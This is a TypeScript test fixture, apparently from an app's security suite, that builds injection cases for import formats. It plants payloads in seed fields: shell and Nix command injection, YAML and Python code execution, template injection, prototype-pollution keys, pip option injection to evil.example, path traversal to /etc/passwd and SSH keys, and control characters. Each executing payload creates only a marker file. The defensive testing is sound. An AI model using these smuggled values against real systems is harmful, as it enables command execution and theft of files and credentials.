import type { ImportFormatId } from '../../../preload/contract';
import { type HostileFile, text } from './hostile-file';
import { field, filled, seeds, usual } from './seeds';

/** A seed with a payload in one of its fields. */
export interface Injection extends HostileFile {
  readonly format: ImportFormatId;
  /** Which seed of the format, from 0. */
  readonly seed: number;
  readonly field: string;
  readonly payloadClass: PayloadClass;
  readonly payload: string;
}

/** What is written into fields, by what would follow it. */
export function payloads(marker: string) {
  const touch = `touch ${marker}`;
  const exec = `builtins.exec [ "touch" "${marker}" ]`;
  return {
    shell: [
      `$(${touch})`,
      `\`${touch}\``,
      `; ${touch} #`,
      `| ${touch}`,
      `'; ${touch}; '`,
      `"; ${touch}; "`,
      `x\n${touch}\n`,
      `x\r\nRUN ${touch}\r\n`,
    ],
    nix: [
      `\${${exec}}`,
      `''\${${exec}}''`,
      `"\${${exec}}"`,
      `"; x = ${exec}; y = "`,
      `''; x = ${exec}; y = ''`,
      `x" (${exec}) "y`,
      `*/ ${exec} /*`,
      `\\" \${${exec}} \\"`,
    ],
    code: [
      `!!python/object/apply:os.system ["${touch}"]`,
      `__import__("os").system("${touch}")`,
      `{{ "".__class__ }}{% include "/etc/passwd" %}%(x)s`,
    ],
    prototype: ['__proto__', 'constructor'],
    option: ['--index-url=https://evil.example/simple', '-r/etc/passwd', '-e .', '--install-option=x'],
    path: ['../../../../../../tmp/x', '/etc/passwd', '~/.ssh/id_ed25519', 'file:///etc/passwd'],
    control: ['\u0000', '\u001b]0;title\u0007\u001b[31mred\u001b[2J', 'abc\u202ednuof\u2066\u200b', '\ud800'],
    secret: ['https://user:secret@evil.example/?token=secret'],
    size: [' ', 'x'.repeat(100_000)],
  };
}

export type PayloadClass = keyof ReturnType<typeof payloads>;

/** A field of a seed. */
interface Place {
  readonly format: ImportFormatId;
  readonly seed: number;
  readonly field: string;
}

const seedOf = ({ format, seed }: Place): string => seeds[format][seed] ?? '';

const placesOf = (format: ImportFormatId): Place[] =>
  seeds[format].flatMap((content, seed) =>
    [...new Set(content.match(field))].map((name) => ({ format, seed, field: name })),
  );

/** The next of its items each time, from the first again after the last. */
function inTurn<T>(items: readonly T[]): () => T {
  let at = 0;
  return () => items[at++ % items.length] as T;
}

/**
 * Spread evenly, and the same each time: every field of every seed is attacked with something for a shell, something for Nix
 * and something of another class, and every format with every class. What Nix could run is tried whole in the fields of the
 * kinds that become Nix. Payloads of a class take turns, so that all of them occur. Whatever is run makes the file `marker`.
 */
export function injections(marker: string): Injection[] {
  const { shell, nix, ...others } = payloads(marker);
  const [nextShell, nextNix] = [inTurn(shell), inTurn(nix)];
  const otherClasses = (Object.keys(others) as (keyof typeof others)[]).map((payloadClass) => {
    const next = inTurn(others[payloadClass]);
    return { payloadClass, next };
  });
  const nextOther = inTurn(otherClasses);
  return (Object.keys(seeds) as ImportFormatId[]).flatMap((format) => {
    const places = placesOf(format);
    const nextPlace = inTurn(places);
    return [
      ...places.map((place) => injected(place, 'shell', nextShell())),
      ...places.flatMap((place) =>
        becomesNix(place) ? nix.map((one) => injected(place, 'nix', one)) : [injected(place, 'nix', nextNix())],
      ),
      ...Array.from({ length: Math.max(places.length, otherClasses.length) }, () => {
        const { payloadClass, next } = nextOther();
        return injected(nextPlace(), payloadClass, next());
      }),
    ];
  });
}

const becomesNix = (place: Place): boolean => /"kind": "nix-/.test(seedOf(place));

function injected(place: Place, payloadClass: PayloadClass, payload: string): Injection {
  const content = filled(seedOf(place), (name) => (name === place.field ? payload : (usual[name] ?? 'x')));
  const what = `${place.format} ${place.seed} ${place.field} ${payloadClass}: ${JSON.stringify(payload).slice(0, 60)}`;
  return { ...text(what, content, `/srv/${place.format}`), ...place, payloadClass, payload };
}
